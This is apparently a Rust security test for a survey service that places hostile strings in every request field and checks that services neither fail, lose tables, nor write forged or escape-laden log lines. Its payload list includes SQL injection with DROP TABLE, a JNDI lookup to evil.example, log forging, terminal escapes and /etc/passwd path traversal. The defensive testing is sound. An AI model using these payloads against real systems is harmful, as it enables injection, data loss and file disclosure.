//! Texts that mean something to a database, a terminal, a log or a file system, in every place where a text can stand:
//! none is ever anything but a text.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::print_stderr)]

use std::{collections::BTreeMap, process::Command, time::Duration};

use jamfor_contract::questionnaire::{Area, AreaKind, ImportAreasRequest};
use jamfor_identity::development::TokenRequest;
use jamfor_testkit::authorization::{self, BODY, ask};
use jamfor_tests::{
    bystander::Bystander,
    cluster::Cluster,
    planted::everywhere,
    secured::{SERVICES, Secured, settle},
    wire::{Answer, Way, framed, with_token},
};
use prost_reflect::DynamicMessage;
use tonic::{Code, Status, transport::Channel};

/// A line that would be believed if it stood alone in a log.
const FORGED: &str = "{\"level\":\"ERROR\",\"forged\":\"yes\"}";

/// The texts.
fn texts() -> Vec<String> {
    vec![
        "'; DROP TABLE surveys; --".into(),
        "\" OR \"1\"=\"1\" $1 %s {} ${jndi:ldap://evil.example}".into(),
        format!("\r\n{FORGED}\r\n"),
        format!("\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m{FORGED}"),
        "a\0b".into(),
        "\u{202e}gnp.exe\u{2066}\u{feff}".into(),
        "\u{1f9ea}\u{10ffff}\u{10000}".into(),
        "bodies/../../../etc/passwd".into(),
        "bodies/%2e%2e/%2e%2e%2fetc/surveys/..%00".into(),
        format!("bodies/xa-body/surveys/{}", "a".repeat(20_000)),
    ]
}

/// Somebody who may do everything, so that no text is stopped because of its sender.
fn everybody() -> TokenRequest {
    let roles = jamfor_context::Role::ALL.map(jamfor_context::Role::name);
    let token = TokenRequest::of("everybody").of_body(BODY).with_area("*");
    roles.into_iter().fold(token, TokenRequest::with_role)
}

fn service_of(rpc: &str) -> &'static str {
    let package = rpc.split('.').nth(1).unwrap();
    SERVICES.into_iter().find(|service| *service == package).unwrap_or(SERVICES[0])
}

/// The suite with every filter open, and the requests of the table answered up to an open round.
async fn prepared(suite: &Secured, channels: &BTreeMap<&'static str, Channel>, token: &str) {
    let area = |name: &str, kind: AreaKind, parent: &str| Area {
        name: name.into(),
        title: name.into(),
        kind: kind.into(),
        parent: parent.into(),
        fictional: true,
        ..Area::default()
    };
    let areas = vec![
        area("areas/XA", AreaKind::Country, ""),
        area("areas/XA-0001", AreaKind::Municipality, "areas/XA"),
    ];
    let areas = ImportAreasRequest { areas };
    suite.suite_with(token).areas().import_areas(areas).await.unwrap();
    for case in authorization::cases("") {
        let server = with_token(channels[service_of(&case.rpc)].clone(), token);
        let outcome = ask(server, &case.rpc, &case.messages()).await;
        if let Err(status) = outcome {
            assert!(!is_failure(&status), "{}: {status:?}", case.key());
        }
        if case.rpc.ends_with("/OpenRound") {
            return;
        }
    }
}

/// Whether a service failed, rather than refused.
fn is_failure(status: &Status) -> bool {
    matches!(status.code(), Code::Internal | Code::Unknown | Code::DataLoss | Code::Unavailable)
}

/// How many tables the database has.
fn tables(url: &str) -> String {
    let count = "SELECT count(*) FROM pg_tables WHERE schemaname NOT IN ('pg_catalog', 'information_schema')";
    let found = Command::new("psql").args(["-qtAX", url, "-c", count]).output().unwrap();
    String::from_utf8(found.stdout).unwrap().trim().to_owned()
}

#[tokio::test]
async fn a_text_is_a_text_wherever_it_stands() {
    let cluster = Cluster::start();
    let mut suite = Secured::prepared(&cluster.url(), "").await;
    for service in SERVICES {
        settle(&suite, service, "[telemetry]\nfilter = \"info,jamfor=debug\"\n");
        suite.migrate(service);
    }
    for service in SERVICES {
        suite.launch(service).await;
    }
    let token = suite.issuer.token(&everybody()).unwrap();
    let mut channels = BTreeMap::new();
    for service in SERVICES {
        channels.insert(service, Way::to(&suite, service).channel().await);
    }
    prepared(&suite, &channels, &token).await;
    let before = tables(&cluster.url());
    let bystander = Bystander::of(&suite);

    let (mut failures, mut codes, mut asked) = (Vec::new(), BTreeMap::new(), 0);
    for case in authorization::cases("") {
        for (path, number, messages) in changed(&case.messages()) {
            let server = with_token(channels[service_of(&case.rpc)].clone(), &token);
            let outcome =
                tokio::time::timeout(Duration::from_secs(10), ask(server, &case.rpc, &messages)).await;
            let outcome = outcome.unwrap_or_else(|_| Err(Status::unknown("no answer")));
            let code = outcome.as_ref().map_or_else(Status::code, |()| Code::Ok);
            *codes.entry(format!("{code:?}")).or_insert(0) += 1;
            asked += 1;
            if let Err(status) = outcome
                && is_failure(&status)
            {
                failures.push(format!("{} {path}, text {number}: {status:?}", case.key()));
            }
        }
    }
    eprintln!("{asked} texts in their places: {codes:?}");
    odd_heads(&suite).await;
    bystander.leave("texts in every place").await;
    assert!(failures.is_empty(), "{} calls failed:\n{}", failures.len(), failures.join("\n"));
    assert!(asked > 2_000, "{asked}");
    assert_eq!(tables(&cluster.url()), before, "tables are where they were");
    tokio::time::sleep(Duration::from_millis(200)).await;
    for service in SERVICES {
        every_line_is_its_own(service, &suite.processes[service].log());
    }
}

/// The messages of a call with each text in each place: the place, the text's number, the messages.
fn changed(messages: &[DynamicMessage]) -> Vec<(String, usize, Vec<DynamicMessage>)> {
    let mut all = Vec::new();
    for (number, text) in texts().iter().enumerate() {
        for (at, message) in messages.iter().enumerate() {
            for (path, message) in everywhere(message, text) {
                let mut messages = messages.to_vec();
                messages[at] = message;
                all.push((path, number, messages));
            }
        }
    }
    all
}

/// Paths and headers that a log might believe.
async fn odd_heads(suite: &Secured) {
    let mut wire = Way::to(suite, "intake").http2().await;
    for path in ["/jamfor.intake.v1.RoundService/../../etc/passwd", "/%2e%2e/%00/%0a%7b%7d", "/"] {
        let id = [("x-request-id", FORGED), ("user-agent", FORGED)];
        let answer = wire.call(path, &id, framed(false, &[])).await;
        assert_eq!(answer.refusal().0, Code::Unimplemented, "{path}");
    }
    let long = format!("/{}", "a".repeat(9_000));
    let answer = wire.call(&long, &[], framed(false, &[])).await;
    assert!(matches!(&answer, Answer::Grpc(status) if status.code() == Code::Unimplemented), "{answer:?}");
}

/// Each line of a log is one object, and none was written by a caller.
fn every_line_is_its_own(service: &str, log: &str) {
    assert!(log.lines().count() > 100, "{service} has logged too little to tell");
    assert!(!log.contains('\u{1b}') && !log.contains('\0'), "{service} sends commands to terminals");
    for line in log.lines() {
        let object: serde_json::Map<String, serde_json::Value> =
            serde_json::from_str(line).unwrap_or_else(|error| panic!("{service}: {error}: {line}"));
        assert!(!object.contains_key("forged"), "{service}: {line}");
        assert!(object.contains_key("level") && object.contains_key("timestamp"), "{service}: {line}");
    }
}
